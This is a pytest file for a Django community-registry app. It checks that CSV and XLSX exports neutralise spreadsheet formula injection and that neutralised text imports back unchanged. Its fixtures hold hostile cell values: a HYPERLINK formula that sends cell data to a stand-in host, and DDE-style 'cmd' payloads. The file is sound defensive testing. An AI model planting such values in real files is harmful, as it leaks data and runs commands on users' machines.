"""No exported file carries a live spreadsheet formula (CSV/formula injection, OWASP).

A text that a user typed and that begins with ``= + - @`` (or a tab or carriage return) is
written with a leading quote, in every export and both formats; the import takes the quote
off again, so an exported file still imports back unchanged.
"""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from shequ.org import services as org_services
from shequ.registry import services
from tests.conftest import make_unit
from tests.factories import (
    HEFEI_YAOHAI,
    PERSON_IMPORT_HEADERS,
    make_building,
    make_household,
    make_person,
    tabular_file,
)
from tests.factories import id_number as new_id_number

PAYLOAD = '=HYPERLINK("http://x.invalid/?"&B2,"楼")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMATS = ("csv", "xlsx")


def cells_of(content: bytes, fmt: str) -> list[str]:
    """Every non-empty cell of the file's first sheet, as the spreadsheet would take it."""
    if fmt == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [cell for row in rows for cell in row if cell]
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    return [str(cell.value) for cell in cells]


def assert_neutralised(content: bytes, fmt: str, payload: str = PAYLOAD) -> None:
    cells = cells_of(content, fmt)
    assert any(cell.startswith("'" + payload) for cell in cells), "|".join(cells)
    live = [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert live == []


@pytest.fixture
def bad_building(tree):
    building = make_building(tree.grid_a1, PAYLOAD, address="@SUM(1+1)*cmd|' /C calc'!A0")
    home = make_household(building, "-2+3+cmd", is_rented=True, landlord_name="+李房东")
    return building, home


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("kind", ["buildings", "households", "persons"])
def test_registry_exports_write_formulas_as_text(web, people, bad_building, kind, fmt):
    make_person(bad_building[1], name="张三", employer_name="=1+2")

    response = web.as_(people.worker_a).get(
        reverse("registry:export", args=[kind]) + f"?format={fmt}"
    )

    assert response.status_code == 200
    assert_neutralised(response.content, fmt, PAYLOAD if kind != "persons" else "=1+2")


@pytest.mark.parametrize("fmt", FORMATS)
def test_flow_export_writes_formulas_as_text(web, people, bad_building, fmt):
    person = make_person(bad_building[1], name="钱七")
    services.person_register_outflow(
        actor=None,
        person=person,
        date=datetime.date(2024, 2, 1),
        reason=PAYLOAD,
        division=HEFEI_YAOHAI,
        address="合肥市瑶海区",
    )

    response = web.as_(people.worker_a).get(reverse("registry:flow_list") + f"?export={fmt}")

    assert response.status_code == 200
    assert_neutralised(response.content, fmt)


@pytest.mark.parametrize("fmt", FORMATS)
def test_rented_home_export_writes_formulas_as_text(web, people, bad_building, fmt):
    response = web.as_(people.worker_a).get(reverse("registry:rented_home_list") + f"?export={fmt}")

    assert response.status_code == 200
    assert_neutralised(response.content, fmt)


@pytest.mark.parametrize("fmt", FORMATS)
def test_org_tree_export_writes_formulas_as_text(web, people, tree, fmt):
    make_unit("34060302000103", PAYLOAD, "grid", tree.community_a)

    response = web.as_(people.street).get(
        reverse("org:unit", args=[tree.community_a.code]) + f"?export={fmt}"
    )

    assert response.status_code == 200
    assert_neutralised(response.content, fmt)


@pytest.mark.parametrize("fmt", FORMATS)
def test_user_list_export_writes_formulas_as_text(web, people, tree, fmt):
    org_services.user_create(
        actor=None,
        username="mallory",
        full_name=PAYLOAD,
        role="grid",
        unit=tree.grid_a1,
        password="Test-pass-2026",
    )

    response = web.as_(people.city_admin).get(reverse("org:user_list") + f"?export={fmt}")

    assert response.status_code == 200
    assert_neutralised(response.content, fmt)


@pytest.mark.parametrize("fmt", FORMATS)
def test_audit_log_export_writes_formulas_as_text(web, people, tree, fmt):
    person = make_person(make_household(make_building(tree.grid_a1)), name="钱七")
    services.person_register_outflow(
        actor=people.worker_a,
        person=person,
        date=datetime.date(2024, 2, 1),
        reason=PAYLOAD,
        division=HEFEI_YAOHAI,
        address="合肥市瑶海区",
    )

    response = web.as_(people.auditor).get(reverse("org:audit_events") + f"?export={fmt}")

    assert response.status_code == 200
    assert_neutralised(response.content, fmt)


@pytest.mark.parametrize("fmt", FORMATS)
def test_import_problem_list_writes_formulas_as_text(web, people, bad_building, fmt):
    headers = PERSON_IMPORT_HEADERS
    row = [new_id_number(), "", "340603000000", "34060302000101", PAYLOAD, "1", "未婚"]
    content = tabular_file(headers, [row], "csv")  # openpyxl would store a formula
    client = web.as_(people.worker_a)
    upload = SimpleUploadedFile("人员.csv", content)
    location = client.post(reverse("registry:import_start"), {"kind": "persons", "file": upload})

    response = client.get(location["Location"] + f"?download=problems&format={fmt}")

    assert response.status_code == 200
    assert_neutralised(response.content, fmt)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("kind", ["buildings", "households", "persons"])
def test_exported_formula_text_imports_back_unchanged(web, api, people, bad_building, kind, fmt):
    make_person(bad_building[1], name="张三", employer_name="=1+2", hukou_address="-3 号")
    exported = web.as_(people.worker_a).get(
        reverse("registry:export", args=[kind]) + f"?format={fmt}"
    )

    response = api.as_(people.worker_a).post(
        "/api/v1/imports/",
        {
            "kind": kind,
            "file": SimpleUploadedFile(f"{kind}.{fmt}", exported.content),
            "update": "true",
        },
        format="multipart",
    )

    result = response.json()
    assert result["errors"] == []
    assert result["unchanged"] == result["total_rows"] > 0


def test_a_plain_number_is_not_quoted():
    from shequ.core.tabular import neutralise, unquote

    assert neutralise("-3") == "-3"
    assert neutralise("+8613800000000") == "+8613800000000"
    assert neutralise("-3 号") == "'-3 号"
    assert unquote(neutralise("\t=1")) == "\t=1"
    assert unquote("'李") == "'李"
